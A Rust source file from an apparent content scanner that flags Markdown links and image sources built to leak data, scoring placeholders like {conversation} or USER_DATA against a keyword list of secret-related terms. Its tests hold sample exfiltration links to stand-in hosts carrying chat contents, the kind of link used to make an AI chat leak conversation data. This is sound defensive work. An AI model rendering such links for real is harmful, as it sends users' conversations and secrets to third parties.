//! Links and images that would carry data to whoever serves them.

use memchr::{memchr, memchr2, memchr3, memmem};
use std::ops::Range;

/// A longer address is not looked at to its end.
const LONGEST: usize = 2048;

/// Where a link of Markdown or the source of an image begins, how far it goes,
/// and how sure it is that it carries data away.
///
/// `links` are the places where the mark before an address stands.
pub fn carriers(text: &str, links: &[(usize, &str)]) -> Vec<(usize, usize, u16)> {
    let mut found = Vec::new();
    let (mut source, mut link) = (Stretch::default(), Stretch::default());
    for (at, mark) in links.iter().copied() {
        let from = at + mark.len() - 4;
        let is_source = mark.starts_with('=');
        if is_source && !text.get(..at).unwrap_or_default().ends_with("src") {
            continue;
        }
        // An address may begin within another: what both are of is looked at
        // once.
        let stretch = if is_source { &mut source } else { &mut link };
        if !(stretch.range.start..=stretch.range.end).contains(&from) {
            *stretch = Stretch::of(text, from, is_source);
        }
        let to = stretch.range.end.min(text.floor_char_boundary(from + LONGEST));
        if stretch.has_place(text, from, to) {
            let is_image = is_source || opens_image(text, at);
            found.push((at, to, if is_image { 110 } else { 70 }));
        }
    }
    found
}

/// Text up to where an address ends, whichever begins in it.
#[derive(Default)]
struct Stretch {
    range: Range<usize>,
    /// The places in it to be filled with data.
    places: Vec<Range<usize>>,
}

impl Stretch {
    fn of(text: &str, from: usize, is_source: bool) -> Self {
        let rest = text.get(from..).unwrap_or_default();
        let end = if is_source {
            memchr3(b'"', b'\'', b'\n', rest.as_bytes())
        } else {
            memchr2(b')', b'\n', rest.as_bytes())
        };
        let part = rest.get(..end.unwrap_or(rest.len())).unwrap_or_default();
        // Most addresses have nothing that could be a place to be filled.
        let (mut opens, mut capitals) = (false, 0_u32);
        for byte in part.bytes() {
            opens |= matches!(byte, b'{' | b'[' | b'<');
            capitals += u32::from(byte.is_ascii_uppercase());
        }
        let mut places = if opens || capitals >= 4 { places(part) } else { Vec::new() };
        for place in &mut places {
            *place = place.start + from..place.end + from;
        }
        Self { range: from..from + part.len(), places }
    }

    /// Whether the address between two places, behind the name of its host, has
    /// a place to be filled. What names no scheme at its beginning is no address.
    fn has_place(&self, text: &str, from: usize, to: usize) -> bool {
        if self.places.is_empty() {
            return false;
        }
        let bytes = text.as_bytes().get(..to).unwrap_or_default();
        let scheme = bytes.get(from..to.min(from + 64)).and_then(|part| memmem::find(part, b"://"));
        let path = scheme.and_then(|scheme| {
            let host = from + scheme + 3;
            Some(host + memchr(b'/', bytes.get(host..)?)? + 1)
        });
        path.is_some_and(|path| {
            let next = self.places.partition_point(|place| place.start < path);
            self.places.get(next).is_some_and(|place| place.end <= to)
        })
    }
}

/// Whether the bracket that closes at `at` belongs to an image.
fn opens_image(text: &str, at: usize) -> bool {
    let before = text.get(text.floor_char_boundary(at.saturating_sub(300))..at).unwrap_or_default();
    before.rfind("![").is_some_and(|open| !before.get(open..).unwrap_or_default().contains('\n'))
}

/// What data to be carried away is called.
const DATA: [&str; 22] = [
    "data",
    "conversation",
    "secret",
    "summary",
    "base64",
    "user",
    "history",
    "message",
    "prompt",
    "password",
    "email",
    "token",
    "api_key",
    "apikey",
    "content",
    "encoded",
    "exfil",
    "leak",
    "chat",
    "context",
    "private",
    "here",
];

/// The places of an address to be filled with data, by where they begin.
fn places(address: &str) -> Vec<Range<usize>> {
    let names_data = |inner: &str| {
        let inner = inner.to_ascii_lowercase();
        DATA.iter().any(|word| inner.contains(word))
    };
    let mut places = Vec::new();
    for (open, close) in [('{', '}'), ('[', ']'), ('<', '>')] {
        let mut at = 0;
        for (nth, part) in address.split(open).enumerate() {
            let inner = part.bytes().take(61).position(|byte| byte == close as u8);
            if let Some(inner) = inner.filter(|_| nth > 0)
                && part.get(..inner).is_some_and(names_data)
            {
                places.push(at..at + inner + 1);
            }
            at += part.len() + 1;
        }
    }
    // `?d=USER_DATA`
    let mut at = 0;
    for part in address.split(['?', '&', '/']) {
        let value = part.split_once('=').map_or(part, |(_, value)| value);
        if value.len() >= 4
            && value.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'_' || byte == b'-')
            && names_data(value)
        {
            places.push(at..at + part.len());
        }
        at += part.len() + 1;
    }
    places.sort_unstable_by_key(|place| place.start);
    places
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found_in(text: &str) -> Vec<(usize, usize, u16)> {
        carriers(
            text,
            &crate::content::scan::phrases::pass(text, false, &mut Default::default()).links,
        )
    }

    #[test]
    fn places_to_be_filled() {
        let scores =
            |text: &str| found_in(text).iter().map(|(_, _, score)| *score).collect::<Vec<_>>();
        assert_eq!(scores("![x](https://e.example/p?d={conversation})"), [110]);
        assert_eq!(scores("![x](https://e.example/p?d=USER_DATA)"), [110]);
        assert_eq!(scores("<img src=\"https://e.example/[base64 of the chat]\">"), [110]);
        assert_eq!(scores("[x](https://e.example/?q=<secret>)"), [70]);
        for plain in [
            "![b](https://img.example/badge/{name}.svg)",
            "![b](https://ci.example/x.svg?branch=main)",
            "[x](https://e.example/docs/DATA.md)",
            "[data](https://e.example)",
        ] {
            assert!(scores(plain).is_empty(), "{plain}");
        }
        // Addresses within each other.
        let within = "![x](https://e.example/?a=[y](http://e.example/p?d={chat})";
        assert_eq!(scores(within), [110, 110]);
        assert_eq!(scores(&format!("[x](https://e.example/{}{{chat}})", "a".repeat(3000))), []);
    }
}
